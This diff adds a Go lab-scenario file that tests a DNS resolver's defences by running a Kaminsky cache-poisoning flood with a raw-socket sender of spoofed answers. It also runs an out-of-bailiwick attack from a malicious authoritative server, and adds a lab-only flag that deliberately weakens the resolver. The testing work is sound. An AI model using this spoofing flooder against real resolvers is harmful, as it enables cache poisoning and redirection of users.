@@ -1,0 +1,679 @@
+package scenario
+
+import (
+	"context"
+	crand "crypto/rand"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"math/rand/v2"
+	"net"
+	"net/netip"
+	"os"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"github.com/gopacket/gopacket/layers"
+	"github.com/miekg/dns"
+	"github.com/rampart-fw/rampart/lab"
+	"golang.org/x/sys/unix"
+)
+
+// The lab-only weakening of the resolver: a fixed upstream source port and
+// no 0x20. The resolver refuses the flag unless the environment carries the
+// variable, which only the lab sets, so a production configuration cannot
+// switch it on by accident.
+const (
+	WeakenFlag     = "--lab-weaken"
+	WeakenEnv      = "RAMPART_LAB_WEAKEN"
+	WeakenEnvValue = "yes-i-want-a-poisonable-resolver"
+	// WeakPort is the fixed source port of a weakened resolver: knowing it
+	// is the whole point of the weakness.
+	WeakPort = 33333
+)
+
+// ErrWeakenUnavailable is returned when the resolver does not know
+// WeakenFlag yet, so there is no weakened target to attack.
+var ErrWeakenUnavailable = errors.New("the resolver has no " + WeakenFlag + " option (unknown flag): no weakened target")
+
+// PoisonZone is the victim zone, NSName its server's name, and PoisonAddr
+// the address the attacks try to plant: the attacker host.
+const (
+	PoisonZone = "example.lab."
+	NSName     = "ns1.example.lab."
+	WWWName    = "www.example.lab."
+	EvilZone   = "evil.lab."
+)
+
+// KaminskyOptions bound a Kaminsky run. Zero values take the defaults.
+type KaminskyOptions struct {
+	// Weak attacks a resolver started with WeakenFlag: the attacker knows
+	// its source port and guesses only the ID.
+	Weak bool
+	// Duration is the wall-clock bound of the flood; 0 means 60 s.
+	Duration time.Duration
+	// MaxPackets is the spoofed-packet budget; 0 means 100 million.
+	MaxPackets uint64
+	// MaxRounds bounds the trigger queries; 0 means one million.
+	MaxRounds int
+}
+
+func (o *KaminskyOptions) defaults() {
+	if o.Duration <= 0 {
+		o.Duration = 60 * time.Second
+	}
+	if o.MaxPackets == 0 {
+		o.MaxPackets = 100_000_000
+	}
+	if o.MaxRounds <= 0 {
+		o.MaxRounds = 1_000_000
+	}
+}
+
+// KaminskyResult is what a Kaminsky run tried and what came of it.
+type KaminskyResult struct {
+	Weak     bool
+	Rounds   int           // trigger queries sent
+	Timeouts int           // trigger queries that got no answer
+	Packets  uint64        // spoofed responses sent
+	Lost     uint64        // spoofed responses the kernel refused (queue full)
+	Elapsed  time.Duration // of the flood
+	// RaceWon says a spoofed answer beat the real one: the trigger query
+	// for WonName came back with the attacker's address, in round WonRound
+	// after WonAfter.
+	RaceWon  bool
+	WonName  string
+	WonRound int
+	WonAfter time.Duration
+	// Poisoned says that, asked afterwards from client2, the resolver
+	// answered some name with the attacker's address: the won name (its
+	// forged answer is in the cache) or a name below.
+	Poisoned bool
+	// Hijacked says www.example.lab or ns1.example.lab answered with the
+	// attacker's address: the forged delegation or glue replaced the real
+	// one, so the whole zone is the attacker's.
+	Hijacked bool
+	// After is what the resolver answered afterwards, one line per name.
+	After []string
+	Err   error
+}
+
+// Rate is the spoofed packets per second.
+func (r KaminskyResult) Rate() float64 {
+	if r.Elapsed <= 0 {
+		return 0
+	}
+	return float64(r.Packets) / r.Elapsed.Seconds()
+}
+
+// Kaminsky starts the DNS hierarchy (the resolver weakened when opts.Weak),
+// then runs the attack: client1, the attacker's foothold inside, asks the
+// resolver for random names under example.lab. while the attacker host
+// floods the resolver with responses forged from the zone's server
+// (203.0.113.30:53) at guessed ports and IDs, each claiming that
+// ns1.example.lab. is the attacker. The attacker does not see the
+// resolver's queries. A malicious server for example.lab. runs on the
+// attacker, so that a stolen delegation shows in www.example.lab's answer.
+// It stops at the first won race, or at the bounds of opts, and asks the
+// resolver from client2 what it now believes.
+func Kaminsky(ctx context.Context, l *lab.Lab, env *lab.Env, opts KaminskyOptions) KaminskyResult {
+	d, err := startPoisonDNS(ctx, l, env, "kaminsky", opts.Weak)
+	if err != nil {
+		return KaminskyResult{Weak: opts.Weak, Err: err}
+	}
+	defer d.Stop()
+	return KaminskyAgainst(ctx, l, d.Resolver4, opts)
+}
+
+// KaminskyAgainst runs the Kaminsky attack against a resolver already
+// listening at resolver (an inside address) whose upstream queries leave
+// from the same address. The DNS hierarchy must be running.
+func KaminskyAgainst(ctx context.Context, l *lab.Lab, resolver netip.AddrPort, opts KaminskyOptions) KaminskyResult {
+	opts.defaults()
+	res := KaminskyResult{Weak: opts.Weak}
+	attacker := l.Addr("attacker", 4)
+	stopEvil, err := startEvilServer(l.Host("attacker"), netip.AddrPortFrom(attacker, 53), attacker)
+	if err != nil {
+		res.Err = fmt.Errorf("malicious server on the attacker: %w", err)
+		return res
+	}
+	defer stopEvil()
+	fl, err := newFlooder(l.Host("attacker"), l.Addr("auth", 4), resolver.Addr(), attacker, opts.Weak)
+	if err != nil {
+		res.Err = err
+		return res
+	}
+	defer fl.close()
+
+	fctx, cancel := context.WithTimeout(ctx, opts.Duration)
+	defer cancel()
+	// The first template goes in before the flood starts, so the sender
+	// never has to wait for one.
+	name, err := randomName(PoisonZone)
+	if err != nil {
+		res.Err = err
+		return res
+	}
+	if err := fl.setName(name); err != nil {
+		res.Err = err
+		return res
+	}
+	var wg sync.WaitGroup
+	wg.Add(1)
+	start := time.Now()
+	go func() {
+		defer wg.Done()
+		fl.run(fctx, opts.MaxPackets)
+		cancel()
+	}()
+	client := l.Host("client1")
+	for res.Rounds < opts.MaxRounds && fctx.Err() == nil {
+		if res.Rounds > 0 {
+			if name, err = randomName(PoisonZone); err != nil {
+				res.Err = err
+				break
+			}
+			if err := fl.setName(name); err != nil {
+				res.Err = err
+				break
+			}
+		}
+		res.Rounds++
+		q := new(dns.Msg)
+		q.SetQuestion(name, dns.TypeA)
+		r, _, err := Query(client, resolver, q, false, 2*time.Second)
+		if err != nil {
+			res.Timeouts++
+			continue
+		}
+		if answersWith(r, attacker) {
+			res.RaceWon, res.WonName, res.WonRound, res.WonAfter = true, name, res.Rounds, time.Since(start)
+			break
+		}
+	}
+	cancel()
+	wg.Wait()
+	res.Elapsed = fl.elapsed()
+	res.Packets = fl.sent.Load()
+	res.Lost = fl.lost
+	if ferr := fl.error(); ferr != nil && res.Err == nil {
+		res.Err = ferr
+	}
+	// Spoofed packets still queued must not count as the answer to the
+	// check below.
+	time.Sleep(100 * time.Millisecond)
+	res.After, res.Hijacked = askAfter(l.Host("client2"), resolver, attacker, []string{WWWName, NSName})
+	res.Poisoned = res.Hijacked
+	if res.RaceWon {
+		after, won := askAfter(l.Host("client2"), resolver, attacker, []string{res.WonName})
+		res.After = append(res.After, after...)
+		res.Poisoned = res.Poisoned || won
+	}
+	return res
+}
+
+// BailiwickResult is what a bailiwick run tried and what came of it.
+type BailiwickResult struct {
+	// Trigger is what the resolver answered for www.evil.lab.
+	Trigger string
+	// EvilQueries counts the queries the malicious server answered: zero
+	// means the resolver never reached it and the run proves nothing.
+	EvilQueries int64
+	Poisoned    bool
+	After       []string
+	Err         error
+}
+
+// Bailiwick starts the DNS hierarchy and a malicious authoritative server
+// for evil.lab. on the attacker host (lab.zone delegates evil.lab. to it),
+// whose every answer carries records for example.lab.: an NS in the
+// authority section, addresses for www and ns1 in the additional section
+// and an answer-section record for www.example.lab. client1 asks the
+// resolver for www.evil.lab; client2 then asks for www.example.lab and
+// ns1.example.lab, which must still have their real addresses.
+func Bailiwick(ctx context.Context, l *lab.Lab, env *lab.Env) BailiwickResult {
+	var res BailiwickResult
+	d, err := startPoisonDNS(ctx, l, env, "bailiwick", false)
+	if err != nil {
+		res.Err = err
+		return res
+	}
+	defer d.Stop()
+	attacker := l.Addr("attacker", 4)
+	ev := &evilServer{attacker: attacker}
+	stop, err := ev.start(l.Host("attacker"), netip.AddrPortFrom(attacker, 53))
+	if err != nil {
+		res.Err = fmt.Errorf("malicious server on the attacker: %w", err)
+		return res
+	}
+	defer stop()
+	r, _, err := Ask(l.Host("client1"), d.Resolver4, "www."+EvilZone, dns.TypeA, false)
+	if err != nil {
+		res.Err = fmt.Errorf("trigger www.%s: %w", EvilZone, err)
+		return res
+	}
+	res.Trigger = summary(r)
+	res.EvilQueries = ev.queries.Load()
+	res.After, res.Poisoned = askAfter(l.Host("client2"), d.Resolver4, attacker, []string{WWWName, NSName})
+	return res
+}
+
+// PoisonKaminsky is the demo's Kaminsky scenario: a 10-second flood at
+// full rate against the default resolver, which must not be poisoned.
+func PoisonKaminsky() lab.Scenario {
+	return lab.Scenario{Name: "kaminsky", Run: func(ctx context.Context, l *lab.Lab, env *lab.Env) []lab.Result {
+		r := Kaminsky(ctx, l, env, KaminskyOptions{Duration: 10 * time.Second})
+		return []lab.Result{r.LabResult("kaminsky")}
+	}}
+}
+
+// PoisonBailiwick is the demo's bailiwick scenario.
+func PoisonBailiwick() lab.Scenario {
+	return lab.Scenario{Name: "bailiwick", Run: func(ctx context.Context, l *lab.Lab, env *lab.Env) []lab.Result {
+		r := Bailiwick(ctx, l, env)
+		return []lab.Result{r.LabResult("bailiwick")}
+	}}
+}
+
+// LabResult is the result as a line of the demo report. A weak run is OK
+// when it poisoned the target (the attack works); a default run when it
+// did not.
+func (r KaminskyResult) LabResult(scenario string) lab.Result {
+	target := "default resolver"
+	defence := "random source port, random ID, 0x20, near-miss → TCP"
+	if r.Weak {
+		target = "weakened resolver (fixed port " + fmt.Sprint(WeakPort) + ", no 0x20)"
+		defence = "ID only (16 bits)"
+	}
+	res := lab.Result{Scenario: scenario, Defence: defence,
+		Tried: fmt.Sprintf("off-path Kaminsky flood against the %s: %d rounds, %d spoofed responses in %s (%.0f/s)",
+			target, r.Rounds, r.Packets, r.Elapsed.Round(time.Millisecond), r.Rate())}
+	switch {
+	case r.Err != nil:
+		res.Outcome = r.Err.Error()
+	case r.Hijacked:
+		res.Outcome = fmt.Sprintf("POISONED, zone hijacked (race won in round %d after %s)", r.WonRound, r.WonAfter.Round(time.Millisecond))
+		res.OK = r.Weak
+	case r.Poisoned:
+		res.Outcome = fmt.Sprintf("POISONED: %s cached with the attacker's address (race won in round %d after %s); the delegation held", r.WonName, r.WonRound, r.WonAfter.Round(time.Millisecond))
+		res.OK = r.Weak
+	case r.RaceWon:
+		res.Outcome = fmt.Sprintf("a forged answer won round %d after %s but was not cached", r.WonRound, r.WonAfter.Round(time.Millisecond))
+		res.OK = false
+	default:
+		res.Outcome = "not poisoned"
+		res.OK = !r.Weak
+	}
+	res.Details = r.After
+	return res
+}
+
+// LabResult is the result as a line of the demo report: OK when the cache
+// was not poisoned.
+func (r BailiwickResult) LabResult(scenario string) lab.Result {
+	res := lab.Result{Scenario: scenario, Defence: "bailiwick: only records inside the zone asked are accepted",
+		Tried: fmt.Sprintf("malicious server for %s sends out-of-bailiwick records for %s (%d queries answered)", EvilZone, PoisonZone, r.EvilQueries)}
+	switch {
+	case r.Err != nil:
+		res.Outcome = r.Err.Error()
+	case r.EvilQueries == 0:
+		res.Outcome = "the resolver never asked the malicious server"
+	case r.Poisoned:
+		res.Outcome = "POISONED"
+	default:
+		res.OK = true
+		res.Outcome = "not poisoned; www.evil.lab → " + r.Trigger
+	}
+	res.Details = r.After
+	return res
+}
+
+// startPoisonDNS starts the hierarchy in a folder of its own, the resolver
+// weakened when weak.
+func startPoisonDNS(ctx context.Context, l *lab.Lab, env *lab.Env, name string, weak bool) (*DNSHierarchy, error) {
+	dir, err := os.MkdirTemp(env.Dir, name+"-")
+	if err != nil {
+		return nil, err
+	}
+	if !weak {
+		return StartDNS(ctx, l, env.Rampart, dir)
+	}
+	// Node.Start passes this process's environment on; the variable is set
+	// only while the servers start.
+	old, had := os.LookupEnv(WeakenEnv)
+	os.Setenv(WeakenEnv, WeakenEnvValue)
+	d, err := StartDNS(ctx, l, env.Rampart, dir, WeakenFlag)
+	if had {
+		os.Setenv(WeakenEnv, old)
+	} else {
+		os.Unsetenv(WeakenEnv)
+	}
+	if err != nil && strings.Contains(err.Error(), "unknown flag") {
+		return nil, fmt.Errorf("%w: %v", ErrWeakenUnavailable, err)
+	}
+	return d, err
+}
+
+// askAfter asks the resolver for each name's A record from h and reports
+// the answers and whether any of them is the attacker's address.
+func askAfter(h *lab.Node, resolver netip.AddrPort, attacker netip.Addr, names []string) ([]string, bool) {
+	var lines []string
+	poisoned := false
+	for _, n := range names {
+		r, _, err := Ask(h, resolver, n, dns.TypeA, false)
+		if err != nil {
+			lines = append(lines, fmt.Sprintf("%s A: %v", n, err))
+			continue
+		}
+		if answersWith(r, attacker) {
+			poisoned = true
+		}
+		lines = append(lines, fmt.Sprintf("%s A → %s", n, summary(r)))
+	}
+	return lines, poisoned
+}
+
+func answersWith(r *dns.Msg, a netip.Addr) bool {
+	for _, rr := range r.Answer {
+		if ar, ok := rr.(*dns.A); ok {
+			if got, ok := netip.AddrFromSlice(ar.A); ok && got.Unmap() == a {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+func summary(r *dns.Msg) string {
+	if r.Rcode != dns.RcodeSuccess {
+		return dns.RcodeToString[r.Rcode]
+	}
+	var s []string
+	for _, rr := range r.Answer {
+		s = append(s, strings.TrimPrefix(rr.Header().Name+" "+rdata(rr), " "))
+	}
+	if len(s) == 0 {
+		return "no records"
+	}
+	return strings.Join(s, ", ")
+}
+
+const nameAlphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
+
+// randomName returns a fresh six-character label under zone: never cached,
+// so every trigger query makes the resolver ask the zone's server.
+func randomName(zone string) (string, error) {
+	var b [6]byte
+	if _, err := crand.Read(b[:]); err != nil {
+		return "", err
+	}
+	for i := range b {
+		b[i] = nameAlphabet[int(b[i])%len(nameAlphabet)]
+	}
+	return string(b[:]) + "." + zone, nil
+}
+
+// Offsets into a spoofed IPv4/UDP packet without IP options.
+const (
+	offDstPort  = 20 + 2
+	offUDPCheck = 20 + 6
+	offDNSID    = 20 + 8
+)
+
+// spoofResponse builds the forged answer for name, from server:53 to
+// resolver port 0 with ID 0; patch sets those per packet. The UDP checksum
+// is zero (legal over IPv4), so patching needs no checksum arithmetic.
+func spoofResponse(name string, server, resolver, attacker netip.Addr) ([]byte, error) {
+	m := new(dns.Msg)
+	m.SetQuestion(name, dns.TypeA)
+	m.Response, m.Authoritative, m.RecursionDesired = true, true, false
+	const long = 7 * 24 * 3600
+	a := net.IP(attacker.AsSlice())
+	m.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: long}, A: a}}
+	m.Ns = []dns.RR{&dns.NS{Hdr: dns.RR_Header{Name: PoisonZone, Rrtype: dns.TypeNS, Class: dns.ClassINET, Ttl: long}, Ns: NSName}}
+	m.Extra = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: NSName, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: long}, A: a}}
+	m.Compress = true
+	payload, err := m.Pack()
+	if err != nil {
+		return nil, err
+	}
+	pkt, err := lab.Spec{Src: server, Dst: resolver, Proto: layers.IPProtocolUDP, SrcPort: 53, DstPort: 1, Payload: payload}.Build()
+	if err != nil {
+		return nil, err
+	}
+	if len(pkt) < offDNSID+2 || pkt[0] != 0x45 {
+		return nil, fmt.Errorf("spoofed packet: unexpected IPv4 header %#x", pkt[0])
+	}
+	pkt[offUDPCheck], pkt[offUDPCheck+1] = 0, 0
+	return pkt, nil
+}
+
+// patch sets the guessed destination port and DNS ID of a spoofed packet.
+func patch(pkt []byte, port, id uint16) {
+	binary.BigEndian.PutUint16(pkt[offDstPort:], port)
+	binary.BigEndian.PutUint16(pkt[offDNSID:], id)
+}
+
+// guesser draws the attacker's guesses. Against the weakened target the
+// port is known and the IDs are walked from a random start, so no ID is
+// tried twice in one window; otherwise port and ID are both random.
+type guesser struct {
+	weak bool
+	rng  *rand.ChaCha8
+	id   uint16
+}
+
+func newGuesser(weak bool) (*guesser, error) {
+	var seed [32]byte
+	if _, err := crand.Read(seed[:]); err != nil {
+		return nil, err
+	}
+	g := &guesser{weak: weak, rng: rand.NewChaCha8(seed)}
+	g.id = uint16(g.rng.Uint64())
+	return g, nil
+}
+
+// next returns the next (port, ID) guess. The port is from 1024–65535,
+// the range the resolver draws from.
+func (g *guesser) next() (uint16, uint16) {
+	if g.weak {
+		g.id++
+		return WeakPort, g.id
+	}
+	v := g.rng.Uint64()
+	return uint16(1024 + (v>>16)%(65536-1024)), uint16(v)
+}
+
+// flooder sends spoofed responses from the attacker host through one raw
+// socket as fast as it accepts them. The trigger swaps the template (one
+// per random name) while the sender runs.
+type flooder struct {
+	fd               int
+	server, resolver netip.Addr
+	attacker         netip.Addr
+	g                *guesser
+	tmpl             atomic.Pointer[[]byte]
+	sent             atomic.Uint64
+	// lost counts packets the kernel refused (queue full); read it only
+	// after run returned.
+	lost       uint64
+	start, end time.Time
+	mu         sync.Mutex
+	err        error
+}
+
+func newFlooder(h *lab.Node, server, resolver, attacker netip.Addr, weak bool) (*flooder, error) {
+	g, err := newGuesser(weak)
+	if err != nil {
+		return nil, err
+	}
+	f := &flooder{fd: -1, server: server, resolver: resolver, attacker: attacker, g: g}
+	err = h.Do(func() error {
+		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
+		if err != nil {
+			return fmt.Errorf("raw socket on %s: %w", h.Name, err)
+		}
+		f.fd = fd
+		return nil
+	})
+	return f, err
+}
+
+func (f *flooder) setName(name string) error {
+	p, err := spoofResponse(name, f.server, f.resolver, f.attacker)
+	if err != nil {
+		return err
+	}
+	f.tmpl.Store(&p)
+	return nil
+}
+
+// batch is how many packets go out between checks of the bounds and of a
+// new template: small enough that a new name takes effect at once.
+const batch = 32
+
+// run floods until ctx ends or budget packets are sent. It allocates
+// nothing per packet.
+func (f *flooder) run(ctx context.Context, budget uint64) {
+	f.start = time.Now()
+	defer func() { f.end = time.Now() }()
+	var sa unix.SockaddrInet4
+	sa.Addr = f.resolver.As4()
+	var sent uint64
+	for ctx.Err() == nil && sent < budget {
+		pkt := *f.tmpl.Load()
+		n := min(uint64(batch), budget-sent)
+		for range n {
+			port, id := f.g.next()
+			patch(pkt, port, id)
+			if err := unix.Sendto(f.fd, pkt, 0, &sa); err != nil {
+				if errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN) {
+					// The queue is full: the packet is lost, as on a
+					// real link at full rate.
+					f.lost++
+					continue
+				}
+				f.mu.Lock()
+				f.err = fmt.Errorf("send spoofed response: %w", err)
+				f.mu.Unlock()
+				return
+			}
+			sent++
+		}
+		f.sent.Store(sent)
+	}
+}
+
+func (f *flooder) error() error {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	return f.err
+}
+
+func (f *flooder) elapsed() time.Duration {
+	if f.start.IsZero() || f.end.IsZero() {
+		return 0
+	}
+	return f.end.Sub(f.start)
+}
+
+func (f *flooder) close() {
+	if f.fd >= 0 {
+		unix.Close(f.fd)
+		f.fd = -1
+	}
+}
+
+// evilServer is the attacker's authoritative server. It answers every
+// query and stuffs every answer with records for example.lab. it has no
+// authority over.
+type evilServer struct {
+	attacker netip.Addr
+	queries  atomic.Int64
+}
+
+func startEvilServer(h *lab.Node, addr netip.AddrPort, attacker netip.Addr) (func(), error) {
+	ev := &evilServer{attacker: attacker}
+	return ev.start(h, addr)
+}
+
+// start serves on addr (UDP and TCP) inside h and returns the function
+// that stops it.
+func (ev *evilServer) start(h *lab.Node, addr netip.AddrPort) (func(), error) {
+	var pc net.PacketConn
+	var ln net.Listener
+	err := h.Do(func() error {
+		var err error
+		if pc, err = net.ListenPacket("udp", addr.String()); err != nil {
+			return err
+		}
+		if ln, err = net.Listen("tcp", addr.String()); err != nil {
+			pc.Close()
+			return err
+		}
+		return nil
+	})
+	if err != nil {
+		return nil, err
+	}
+	udp := &dns.Server{PacketConn: pc, Handler: ev}
+	tcp := &dns.Server{Listener: ln, Handler: ev}
+	var wg sync.WaitGroup
+	for _, s := range []*dns.Server{udp, tcp} {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			_ = s.ActivateAndServe()
+		}()
+	}
+	return func() {
+		_ = udp.Shutdown()
+		_ = tcp.Shutdown()
+		wg.Wait()
+	}, nil
+}
+
+// ServeDNS answers with the attacker's address for the name asked (when
+// it asks for A) and adds the out-of-bailiwick records: an answer-section
+// A for www.example.lab, example.lab. NS ns.evil.lab. in the authority
+// section, and A records for www and ns1.example.lab in the additional
+// section.
+func (ev *evilServer) ServeDNS(w dns.ResponseWriter, q *dns.Msg) {
+	ev.queries.Add(1)
+	if len(q.Question) != 1 {
+		m := new(dns.Msg)
+		m.SetRcode(q, dns.RcodeFormatError)
+		_ = w.WriteMsg(m)
+		return
+	}
+	m := new(dns.Msg)
+	m.SetReply(q)
+	m.Authoritative = true
+	const long = 7 * 24 * 3600
+	a := net.IP(ev.attacker.AsSlice())
+	hdr := func(name string, t uint16) dns.RR_Header {
+		return dns.RR_Header{Name: name, Rrtype: t, Class: dns.ClassINET, Ttl: long}
+	}
+	qn := q.Question[0].Name
+	if q.Question[0].Qtype == dns.TypeA || q.Question[0].Qtype == dns.TypeANY {
+		m.Answer = append(m.Answer, &dns.A{Hdr: hdr(qn, dns.TypeA), A: a})
+	}
+	if !strings.EqualFold(qn, WWWName) {
+		m.Answer = append(m.Answer, &dns.A{Hdr: hdr(WWWName, dns.TypeA), A: a})
+	}
+	m.Ns = []dns.RR{
+		&dns.NS{Hdr: hdr(EvilZone, dns.TypeNS), Ns: "ns." + EvilZone},
+		&dns.NS{Hdr: hdr(PoisonZone, dns.TypeNS), Ns: "ns." + EvilZone},
+	}
+	m.Extra = []dns.RR{
+		&dns.A{Hdr: hdr("ns."+EvilZone, dns.TypeA), A: a},
+		&dns.A{Hdr: hdr(WWWName, dns.TypeA), A: a},
+		&dns.A{Hdr: hdr(NSName, dns.TypeA), A: a},
+	}
+	if opt := q.IsEdns0(); opt != nil {
+		m.SetEdns0(opt.UDPSize(), false)
+	}
+	_ = w.WriteMsg(m)
+}
